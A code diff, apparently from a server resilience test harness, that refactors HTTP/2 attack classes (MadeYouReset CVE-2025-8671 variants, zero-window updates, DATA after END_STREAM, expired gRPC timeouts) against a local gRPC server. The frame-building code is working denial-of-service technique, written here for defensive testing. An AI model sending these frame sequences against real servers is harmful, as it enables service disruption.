@@ -498,34 +498,39 @@ class DeflateBomb(DecompressionBomb):
     algorithm = "deflate"
 
 
-class WindowUpdateZero(Attack):
+class WholeRequests(Attack):
+    """Whole GetSequence(46) requests (HEADERS, then the message with
+    END_STREAM), each followed by what `after` adds on its stream."""
+
+    def after(self, stream_id: int) -> bytes:
+        return b""
+
+    def batch(self, conn, count):
+        frames = []
+        for _ in range(count):
+            stream_id = conn.new_stream_id()
+            frames.append(HeadersFrame(stream_id, self.block, flags=["END_HEADERS"]).serialize())
+            frames.append(raw_frame(DATA, END_STREAM, stream_id, self.payload))
+            frames.append(self.after(stream_id))
+        return b"".join(frames), count
+
+
+class WindowUpdateZero(WholeRequests):
     """MadeYouReset (CVE-2025-8671): a whole GetSequence(46) request, then
     a WINDOW_UPDATE of 0 on its stream, which the server must answer by
     resetting the stream; the handler it started must not outlive the
     reset unaccounted."""
 
-    def batch(self, conn, count):
-        frames = []
-        for _ in range(count):
-            stream_id = conn.new_stream_id()
-            frames.append(HeadersFrame(stream_id, self.block, flags=["END_HEADERS"]).serialize())
-            frames.append(raw_frame(DATA, END_STREAM, stream_id, self.payload))
-            frames.append(raw_frame(WINDOW_UPDATE, 0, stream_id, bytes(4)))
-        return b"".join(frames), count
+    def after(self, stream_id):
+        return raw_frame(WINDOW_UPDATE, 0, stream_id, bytes(4))
 
 
-class DataAfterEndStream(Attack):
+class DataAfterEndStream(WholeRequests):
     """MadeYouReset: a whole GetSequence(46) request, then one more DATA
     frame on its half-closed stream (a stream error, STREAM_CLOSED)."""
 
-    def batch(self, conn, count):
-        frames = []
-        for _ in range(count):
-            stream_id = conn.new_stream_id()
-            frames.append(HeadersFrame(stream_id, self.block, flags=["END_HEADERS"]).serialize())
-            frames.append(raw_frame(DATA, END_STREAM, stream_id, self.payload))
-            frames.append(raw_frame(DATA, 0, stream_id, b"x"))
-        return b"".join(frames), count
+    def after(self, stream_id):
+        return raw_frame(DATA, 0, stream_id, b"x")
 
 
 class DataPastWindow(Attack):
@@ -542,7 +547,7 @@ class DataPastWindow(Attack):
         return raw_frame(DATA, 0, stream_id, b"x"), 1
 
 
-class TinyTimeout(Attack):
+class TinyTimeout(WholeRequests):
     """Whole GetSequence(46) requests carrying `grpc-timeout: 1n`: every
     call's deadline has passed when it arrives, and the server cancels
     each itself."""
@@ -551,14 +556,6 @@ class TinyTimeout(Attack):
         method, message = GET_SEQUENCE_46
         self.block, self.payload = grpc_request(method, f"127.0.0.1:{port}", message,
                                                 extra_headers=[("grpc-timeout", "1n")])
-
-    def batch(self, conn, count):
-        frames = []
-        for _ in range(count):
-            stream_id = conn.new_stream_id()
-            frames.append(HeadersFrame(stream_id, self.block, flags=["END_HEADERS"]).serialize())
-            frames.append(raw_frame(DATA, END_STREAM, stream_id, self.payload))
-        return b"".join(frames), count
 
 
 class OneByteData(Attack):
